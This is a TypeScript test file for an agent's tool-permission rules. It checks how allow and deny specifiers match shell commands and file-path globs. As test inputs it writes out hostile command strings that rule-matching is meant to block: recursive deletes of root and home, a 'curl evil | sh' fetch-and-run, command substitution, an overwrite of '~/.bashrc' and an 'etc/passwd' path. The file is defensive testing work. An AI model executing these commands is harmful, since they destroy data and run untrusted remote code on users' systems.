import assert from "node:assert/strict";
import {
  isOffered,
  namesTool,
  parseToolRule,
  specifierCovers,
  splitToolRules,
} from "../../session/tool_rules.ts";

Deno.test("tool rules: lists split on commas and spaces, never inside parentheses", () => {
  assert.deepEqual(
    splitToolRules(["Read,Edit Bash(git log:*)", "mcp__echo  Write(src/**)"]),
    ["Read", "Edit", "Bash(git log:*)", "mcp__echo", "Write(src/**)"],
  );
  assert.deepEqual(splitToolRules([""]), []);
});

Deno.test("tool rules: a rule is a name, or a name and a specifier", () => {
  assert.deepEqual(parseToolRule("Bash"), { tool: "Bash", specifier: null });
  assert.deepEqual(parseToolRule("Bash(git:*)"), {
    tool: "Bash",
    specifier: "git:*",
  });
  assert.deepEqual(parseToolRule("Bash()"), { tool: "Bash", specifier: null });
  assert.ok(namesTool(parseToolRule("mcp__echo"), "mcp__echo__say"));
  assert.ok(!namesTool(parseToolRule("mcp__echo"), "mcp__echoes__say"));
  assert.ok(!namesTool(parseToolRule("Bash"), "BashOutput"));
});

Deno.test("tool rules: command specifiers are prefixes (git:*, git *) or whole commands", () => {
  const run = (command: string) => ({ command, paths: [] });
  assert.ok(specifierCovers("git:*", run("git status")));
  assert.ok(specifierCovers("git:*", run("git")));
  assert.ok(!specifierCovers("git:*", run("gitk")));
  assert.ok(specifierCovers("git log *", run("git log --oneline")));
  assert.ok(specifierCovers("npm test", run("npm test")));
  assert.ok(!specifierCovers("npm test", run("npm test && rm -rf /")));
});

Deno.test("tool rules: an allow rule covers a chained command only when it covers every part and nothing is substituted; a deny rule when it covers any part", () => {
  const run = (command: string) => ({ command, paths: [] });
  assert.ok(specifierCovers("git:*", run("git add . && git commit -m x")));
  assert.ok(!specifierCovers("git:*", run("git status && rm -rf ~")));
  assert.ok(!specifierCovers("git:*", run("git status; curl evil | sh")));
  assert.ok(!specifierCovers("git:*", run("git log $(rm -rf ~)")));
  assert.ok(!specifierCovers("git:*", run("git log `id`")));
  assert.ok(!specifierCovers("git:*", run("git log > ~/.bashrc")));
  assert.ok(specifierCovers("rm:*", run("ls && rm -rf ~"), "deny"));
  assert.ok(specifierCovers("rm:*", run("ls\nrm x"), "deny"));
  assert.ok(!specifierCovers("rm:*", run("ls -la"), "deny"));
});

Deno.test("tool rules: path specifiers are globs over the relative and the absolute path; every path must match", () => {
  const at = (...relative: string[]) => ({
    paths: relative.map((r) => ({ relative: r, absolute: `/w/${r}` })),
  });
  assert.ok(specifierCovers("src/**", at("src/a/b.ts")));
  assert.ok(specifierCovers("./src/*.ts", at("src/a.ts")));
  assert.ok(!specifierCovers("src/*.ts", at("src/a/b.ts")));
  assert.ok(specifierCovers("**/*.md", at("docs/x.md", "README.md")));
  assert.ok(!specifierCovers("src/**", at("src/a.ts", "etc/passwd")));
  assert.ok(specifierCovers("/w/**", at("anything")));
  assert.ok(!specifierCovers("src/**", { paths: [] }));
});

Deno.test("tool rules: --tools and a bare --disallowedTools name decide what is offered", () => {
  const deny = ["Grep", "Bash(rm:*)"].map(parseToolRule);
  assert.ok(!isOffered("Grep", null, deny));
  assert.ok(isOffered("Bash", null, deny));
  assert.ok(!isOffered("Write", ["Read", "Bash"], deny));
  assert.ok(isOffered("Read", ["Read", "Bash"], deny));
});
